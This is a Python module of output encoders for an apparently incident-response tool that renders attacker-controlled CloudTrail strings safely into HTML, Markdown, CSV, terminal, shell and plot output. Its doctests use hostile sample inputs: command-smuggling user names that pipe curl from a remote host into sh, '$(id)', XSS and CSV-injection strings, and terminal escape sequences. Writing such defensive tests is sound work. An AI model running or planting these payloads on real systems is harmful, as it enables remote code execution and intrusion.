"""The one output-encoding layer: every attacker-written string leaves ircreds through here.

CloudTrail is attacker-influenced: user agents, session names, user names, request parameters and
error messages are whatever the attacker sent. Each output context has one encoder; each encoder is
pure, reversible (a property test decodes every output back to the input) and truncation is a separate,
explicit step done for displays only (the frame and the JSON appendix keep the full value, once).

========================  =====================  ==========================================
context                   encoder                decoded by
========================  =====================  ==========================================
HTML text / attribute     :func:`html_text`,     ``html.unescape`` / an HTML parser
                          :func:`html_attr`
JSON in ``<script>``      :func:`script_json`    ``json.loads`` of the script body
Markdown text / code      :func:`md_text`,       :func:`md_unescape` (CommonMark backslash
                          :func:`md_code`        escapes, code spans)
CSV cell                  :func:`csv_cell`       the csv reader, then :func:`csv_uncell`
terminal                  :func:`term`           :func:`term_unescape`
shell command             :func:`shell_quote`,   ``shlex.split``
                          :func:`shell_join`
plotly hover / legend     :func:`plot_text`      ``html.unescape`` (what plotly.js decodes)
display truncation        :func:`truncate`       (not reversible, on purpose)
========================  =====================  ==========================================

Kernel module: standard library only.

Example:
    >>> html_text('<!--<script>')
    '&lt;!--&lt;script&gt;'
    >>> script_json({"ua": "</script><!--"})
    '{"ua": "\\\\u003c/script\\\\u003e\\\\u003c!--"}'
    >>> md_text("svc_`x`|<b>")
    'svc\\\\_\\\\`x\\\\`\\\\|\\\\<b\\\\>'
    >>> csv_cell("=HYPERLINK(1)")
    "'=HYPERLINK(1)"
    >>> term("203.0.113.50\\x1b[2J")
    '203.0.113.50\\\\x1b[2J'
    >>> shell_join(["aws", "iam", "delete-user", "--user-name", "svc; curl x | sh #"])
    "aws iam delete-user --user-name 'svc; curl x | sh #'"
    >>> truncate("a" * 50, 10)
    'aaaaaaaaa… (+41 chars)'
"""

from __future__ import annotations

import html
import json
import re
import shlex
from collections.abc import Callable, Iterable
from typing import Any

__all__ = [
    "CSV_CELL_LIMIT",
    "CSV_RISKY",
    "DISPLAY_LIMIT",
    "ENCODERS",
    "TEXT_LIMIT",
    "csv_cell",
    "csv_uncell",
    "html_attr",
    "html_text",
    "md_code",
    "md_text",
    "md_unescape",
    "plot_text",
    "script_json",
    "script_safe",
    "shell_join",
    "shell_quote",
    "term",
    "term_needs_escape",
    "term_unescape",
    "truncate",
    "truncate_tree",
]

#: Default length of an attacker string in a display (a table cell, a hover, a terminal line).
DISPLAY_LIMIT = 200

#: Longest attacker string a rendered document carries in one place (a report's sentence, its inline
#: JSON); longer values are cut there and kept whole only in the frame and the JSON appendix file.
TEXT_LIMIT = 20_000

#: Longest CSV cell written (about): a spreadsheet cell holds at most 32,767 characters (Excel's limit)
#: and drops the rest silently; cut here, the cell says how much is missing.
CSV_CELL_LIMIT = 32_000


# ----------------------------------------------------------------------------------------------- display


def truncate(value: Any, limit: int | None = DISPLAY_LIMIT) -> str:
    """``value`` as text of at most about ``limit`` characters, saying how much was cut.

    Display only: the frame and the JSON appendix keep the full value. Truncate *before* escaping, so a
    200 MB user agent is never escaped (or copied) whole. ``None`` or a non-positive limit keeps all.

    >>> truncate("Mozilla/5.0", 40)
    'Mozilla/5.0'
    >>> truncate("x" * 1000, 5)
    'xxxx… (+996 chars)'
    """
    text = value if isinstance(value, str) else str(value)
    if limit is None or limit <= 0 or len(text) <= limit:
        return text
    keep = max(limit - 1, 1)
    return f"{text[:keep]}… (+{len(text) - keep:,} chars)"


def truncate_tree(value: Any, limit: int | None = TEXT_LIMIT) -> tuple[Any, bool]:
    """``value`` (JSON-like: dicts, lists, tuples, strings) with every string cut by :func:`truncate`.

    Returns the new value and whether anything was cut. Strings within ``limit`` are the same objects
    (no copy), so a tree of ordinary values costs nothing.

    >>> truncate_tree({"ua": "x" * 30, "n": 1, "ids": ["a"]}, 10)
    ({'ua': 'xxxxxxxxx… (+21 chars)', 'n': 1, 'ids': ['a']}, True)
    """
    cut = False

    def walk(item: Any) -> Any:
        nonlocal cut
        if isinstance(item, str):
            if limit is not None and 0 < limit < len(item):
                cut = True
                return truncate(item, limit)
            return item
        if isinstance(item, dict):
            return {k: walk(v) for k, v in item.items()}
        if isinstance(item, list | tuple):
            return [walk(v) for v in item]
        return item

    return walk(value), cut


def _cut(value: Any, limit: int | None) -> str:
    if limit is not None:
        return truncate(value, limit)
    return value if isinstance(value, str) else str(value)


# -------------------------------------------------------------------------------------------------- HTML


def html_text(value: Any, limit: int | None = None) -> str:
    """Text for an HTML element body: ``& < > " '`` as character references.

    >>> html_text('a<b>&"c"')
    'a&lt;b&gt;&amp;&quot;c&quot;'
    """
    return html.escape(_cut(value, limit), quote=True)


def html_attr(value: Any, limit: int | None = None) -> str:
    """Text for a quoted HTML attribute value (both quote kinds escaped); never a URL you trust.

    >>> html_attr("x\\" onmouseover=\\"alert(1)")
    'x&quot; onmouseover=&quot;alert(1)'
    """
    return html.escape(_cut(value, limit), quote=True)


# -------------------------------------------------------------------------------------- JSON in <script>

_SCRIPT_UNSAFE = re.compile("[<>&\u2028\u2029\ud800-\udfff]")


def _script_sub(match: re.Match[str]) -> str:
    return f"\\u{ord(match.group()):04x}"


def script_json(obj: Any, *, indent: int | None = None, sort_keys: bool = False, default: Any = None) -> str:
    """JSON safe to place inside ``<script>`` (or ``<script type="application/json">``).

    ``<``, ``>`` and ``&`` become ``\\u003c``, ``\\u003e``, ``\\u0026`` (so neither ``</script>`` nor
    ``<!--`` can end or swallow the script), U+2028/U+2029 and lone surrogates are escaped too. The text
    parses back with ``json.loads`` / ``JSON.parse`` to the same value. NaN and infinities are refused
    (``JSON.parse`` would fail on them and lose the whole appendix).

    >>> script_json(["<!--<script>", "a&b"])
    '["\\\\u003c!--\\\\u003cscript\\\\u003e", "a\\\\u0026b"]'
    """
    text = json.dumps(
        obj, indent=indent, sort_keys=sort_keys, default=default, ensure_ascii=False, allow_nan=False
    )
    return _SCRIPT_UNSAFE.sub(_script_sub, text)


def script_safe(json_text: str) -> str:
    """Already-serialised JSON text made safe for ``<script>`` the way :func:`script_json` does it.

    In JSON text ``< > &`` and U+2028/9 can only occur inside strings, where ``\\u003c`` means the same.

    >>> script_safe('{"ua": "<!--<script>"}')
    '{"ua": "\\\\u003c!--\\\\u003cscript\\\\u003e"}'
    """
    return _SCRIPT_UNSAFE.sub(_script_sub, json_text)


# ---------------------------------------------------------------------------------------------- Markdown

# CommonMark: "Any ASCII punctuation character may be backslash-escaped" and then renders literally.
# Escaped everywhere: what can open inline markup mid-line (emphasis, code, links, images, raw HTML,
# entities, strikethrough, math on GitHub, table pipes). Escaped at the start only: what opens a block
# (heading, list, quote, thematic break). Other punctuation stays as is, so ARNs, IPs and times stay
# readable in the raw Markdown.
_MD_INLINE = re.compile(r"[\\`*_\[\]<>&!|~$]")
_MD_BLOCK_START = frozenset("#+-=")  # the rest of what opens a block is escaped everywhere already
_MD_ORDERED = re.compile(r"\d{1,9}(?=[.)](?:[ \t]|$))")
_MD_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
_MD_DECODE = re.compile(r"""\\(?:([!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])|u\{([0-9a-f]{1,6})\})""")


def _md_control(match: re.Match[str]) -> str:
    # "\u{a}" renders as the visible text \u{a} (backslash before a letter is literal in CommonMark);
    # its backslash is not escaped, which keeps it apart from a literal "\u{a}" in the input (whose
    # backslash is).
    return f"\\u{{{ord(match.group()):x}}}"


def md_text(value: Any, limit: int | None = None) -> str:
    """Markdown inline text (paragraph, list item or table cell) that renders as ``value``, never markup.

    Backslash-escapes every character that can open inline markup (emphasis, code, links, images, raw
    HTML, entities, table pipes, strikethrough), and the first character when it could open a block
    (heading, list, quote); control characters, which would end a table row, show as ``\\u{a}``.
    :func:`md_unescape` reverses it.

    >>> md_text("<img src=x onerror=alert(1)>")
    '\\\\<img src=x onerror=alert(1)\\\\>'
    >>> md_text("arn:aws:iam::111122223333:user/backup_svc")
    'arn:aws:iam::111122223333:user/backup\\\\_svc'
    >>> md_unescape(md_text("a|b\\n`c`")) == "a|b\\n`c`"
    True
    """
    out = _MD_INLINE.sub(lambda m: "\\" + m.group(), _cut(value, limit))
    ordered = _MD_ORDERED.match(out)
    if ordered:
        out = f"{out[: ordered.end()]}\\{out[ordered.end() :]}"
    elif out[:1] in _MD_BLOCK_START:
        out = "\\" + out
    return _MD_CONTROL.sub(_md_control, out)


# "|" would split a GFM table cell, "\\" is read by GFM tables before the span, "<" is refused so that
# no renderer without CommonMark's multi-backtick spans can ever see raw HTML.
_MD_CODE_FALLBACK = re.compile(r"[|\\<]")


def md_code(value: Any, limit: int | None = None) -> str:
    """A Markdown code span holding ``value`` verbatim; backticks inside cannot close it.

    The fence is one backtick longer than the longest run of backticks in the value, padded with one
    space each side where needed (CommonMark strips exactly those). Values a code span cannot hold verbatim
    (empty, only spaces, a ``|`` that would split a table cell, control characters, a backslash that
    GFM tables would read, a ``<``) fall back to :func:`md_text`.

    >>> md_code("bucket`name")
    '``bucket`name``'
    >>> md_code("`x")
    '`` `x ``'
    >>> md_code("a|b")
    'a\\\\|b'
    """
    text = _cut(value, limit)
    if not text.strip(" ") or _MD_CODE_FALLBACK.search(text) or _MD_CONTROL.search(text):
        return md_text(text)
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    # CommonMark strips one space each side when both are there: pad only when the value needs it
    # (a backtick at an end would join the fence; spaces at both ends would be stripped).
    pad = " " if text[0] == "`" or text[-1] == "`" or (text[0] == " " and text[-1] == " ") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def md_unescape(markdown: str) -> str:
    """The text a CommonMark renderer shows for output of :func:`md_text` or :func:`md_code`.

    >>> md_unescape("`` a`b ``")
    'a`b'
    """
    span = re.fullmatch(r"(`+)(.*?)\1", markdown, flags=re.DOTALL)
    if span:
        inner = span.group(2)
        if len(inner) > 1 and inner[0] == " " and inner[-1] == " " and inner.strip(" "):
            inner = inner[1:-1]
        return inner
    return _MD_DECODE.sub(
        lambda m: m.group(1) if m.group(1) is not None else chr(int(m.group(2), 16)), markdown
    )


# --------------------------------------------------------------------------------------------------- CSV

#: Leading characters a spreadsheet reads as a formula or a control (OWASP "CSV Injection").
CSV_RISKY = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any, limit: int | None = None) -> str:
    """A CSV cell a spreadsheet shows as text: a risky first character gets a ``'`` in front.

    OWASP's advice for CSV injection: prefix cells starting with ``= + - @``, tab or carriage return
    with a single quote (the ``csv`` module then quotes the cell as needed). A value that itself starts
    with ``'`` gets one too, so :func:`csv_uncell` can always undo it.

    >>> [csv_cell(v) for v in ("-2+3", "@SUM(A1)", "'quoted", "203.0.113.50")]
    ["'-2+3", "'@SUM(A1)", "''quoted", '203.0.113.50']
    """
    text = _cut(value, limit)
    if text.startswith((*CSV_RISKY, "'")):
        return "'" + text
    return text


def csv_uncell(cell: str) -> str:
    """The value :func:`csv_cell` was given.

    >>> csv_uncell("'=1+1")
    '=1+1'
    """
    if len(cell) > 1 and cell[0] == "'" and cell[1] in (*CSV_RISKY, "'"):
        return cell[1:]
    return cell


# ---------------------------------------------------------------------------------------------- terminal

# C0 and C1 controls (ESC starts ANSI sequences, 0x9b is a one-byte CSI), DEL, line/paragraph
# separators, bidirectional overrides and isolates ("Trojan Source"), lone surrogates.
_TERM_UNSAFE = "\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff"
_TERM_ONE = re.compile(f"[{_TERM_UNSAFE}]")
_TERM_ENCODE = re.compile(f"[{_TERM_UNSAFE}]|\\\\(?=[\\\\xuU{_TERM_UNSAFE}])")
_TERM_DECODE = re.compile(r"\\(?:(\\)|x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8}))")


def _term_sub(match: re.Match[str]) -> str:
    char = match.group()
    if char == "\\":
        return "\\\\"
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def term(value: Any, limit: int | None = None, *, multiline: bool = False, reversible: bool = True) -> str:
    """Text safe to write to a terminal: control characters and ANSI sequences shown, not obeyed.

    Controls become ``\\xNN`` / ``\\uNNNN``. A backslash is doubled only where it would otherwise read
    as the start of such an escape, so ordinary text (and a pasted command) is unchanged.
    ``multiline=True`` keeps line feeds (for multi-line messages). :func:`term_unescape` reverses it.
    ``reversible=False`` never doubles a backslash: the safety net for whole output lines whose fields
    were escaped already (escaping twice would double their backslashes).

    >>> term("\\x1b]8;;http://x\\x07click\\x1b]8;;\\x07")
    '\\\\x1b]8;;http://x\\\\x07click\\\\x1b]8;;\\\\x07'
    >>> term(r"C:\\temp")
    'C:\\\\temp'
    """
    text = _cut(value, limit)
    pattern = _TERM_ENCODE if reversible else _TERM_ONE
    if not multiline:
        return pattern.sub(_term_sub, text)
    return "\n".join(pattern.sub(_term_sub, line) for line in text.split("\n"))


def term_needs_escape(value: str) -> bool:
    """True when ``value`` holds a character :func:`term` would escape (a control, ANSI, bidi)."""
    return _TERM_ONE.search(value) is not None


def term_unescape(text: str) -> str:
    r"""The text :func:`term` was given.

    >>> term_unescape(r"a\x1bb\\x")
    'a\x1bb\\x'
    """

    def sub(match: re.Match[str]) -> str:
        if match.group(1):
            return "\\"
        return chr(int(next(g for g in match.groups()[1:] if g), 16))

    return _TERM_DECODE.sub(sub, text)


# ------------------------------------------------------------------------------------------------- shell


def shell_quote(value: Any) -> str:
    """One shell word (POSIX ``sh``) that ``shlex.split`` reads back as exactly ``value``.

    >>> shell_quote("svc; curl https://203.0.113.9/x | sh #")
    "'svc; curl https://203.0.113.9/x | sh #'"
    """
    return shlex.quote(value if isinstance(value, str) else str(value))


def shell_join(parts: Iterable[Any]) -> str:
    """A shell command line from words, each quoted as needed (``shlex.join``).

    To print it, pass it through :func:`term` too: quoting does not neutralise escape sequences.

    >>> shell_join(["aws", "iam", "get-user", "--user-name", "$(id)"])
    "aws iam get-user --user-name '$(id)'"
    """
    return " ".join(shell_quote(p) for p in parts)


# ------------------------------------------------------------------------------------------------ plotly

_PLOT_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&#34;", "'": "&#39;", "%": "&#37;"}
_PLOT_UNSAFE = re.compile("[&<>\"'%]")


def plot_text(value: Any, limit: int | None = DISPLAY_LIMIT) -> str:
    """Text for a plotly hover label, legend entry, axis label or annotation: shown, never markup.

    plotly.js reads a subset of HTML in these strings (``<a href>`` becomes a clickable link, ``<br>``,
    ``<b>``...), and ``%{...}`` in a hover template. ``& < > " ' %`` become character references
    plotly.js decodes (``&amp; &lt; &gt;`` by name, the rest numerically), so the text shows as written.
    Truncated to ``limit`` by default (a display).

    >>> plot_text('<a href="https://203.0.113.9">sso</a> 100%')
    '&lt;a href=&#34;https://203.0.113.9&#34;&gt;sso&lt;/a&gt; 100&#37;'
    """
    return _PLOT_UNSAFE.sub(lambda m: _PLOT_ENTITIES[m.group()], _cut(value, limit))


#: Every encoder by context name, for callers that pick the context at run time (templates, tests).
ENCODERS: dict[str, Callable[..., str]] = {
    "html": html_text,
    "attr": html_attr,
    "md": md_text,
    "md_code": md_code,
    "csv": csv_cell,
    "term": term,
    "plot": plot_text,
}
